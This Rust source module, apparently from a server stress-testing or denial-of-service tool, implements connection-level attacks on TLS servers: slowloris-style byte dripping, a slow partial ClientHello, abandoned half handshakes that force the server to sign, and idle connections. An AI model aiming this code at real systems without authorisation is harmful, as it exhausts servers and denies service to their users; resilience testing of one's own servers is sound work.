//! Attacks below HTTP: on the TLS handshake and on connections.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConnection;
use tokio::io::{self, AsyncRead, AsyncWrite, AsyncWriteExt};
use tokio::time::sleep;

use super::attack::{Attack, drain};
use super::field::server_name;

/// Pause of slow senders between two bytes.
const DRIP: Duration = Duration::from_secs(1);

/// Sends some bytes at once, and then one byte a second repeatedly, until the server ends it.
pub(super) async fn drip(
    stream: impl AsyncRead + AsyncWrite,
    first: &[u8],
    then: &[u8],
) -> io::Result<()> {
    let (mut read, mut write) = io::split(stream);
    let writing = async {
        write.write_all(first).await?;
        write.flush().await?;
        for byte in then.iter().cycle() {
            sleep(DRIP).await;
            write.write_all(&[*byte]).await?;
            write.flush().await?;
        }
        Ok(())
    };
    tokio::select! {
        outcome = writing => outcome,
        outcome = drain(&mut read) => outcome,
    }
}

/// The first bytes of a ClientHello, and then one byte a second.
pub(super) async fn slow_hello(attack: Arc<Attack>) -> io::Result<()> {
    let stream = attack.tcp(attack.field.access.address).await?;
    // A handshake record (22) with a ClientHello (1) of 508 bytes.
    drip(stream, &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3], &[0]).await
}

/// A whole ClientHello, for which the server computes and signs; its answer is read, and nothing follows.
pub(super) async fn half_handshake(attack: Arc<Attack>) -> io::Result<()> {
    let mut stream = attack.tcp(attack.field.access.address).await?;
    let name = server_name().map_err(io::Error::other)?;
    let mut client =
        ClientConnection::new(attack.config().clone(), name).map_err(io::Error::other)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    stream.write_all(&hello).await?;
    attack.sent(0, hello.len());
    drain(&mut stream).await
}

/// A connection without requests.
pub(super) async fn idle(attack: Arc<Attack>) -> io::Result<()> {
    let mut stream = attack.tls().await?;
    drain(&mut stream).await
}
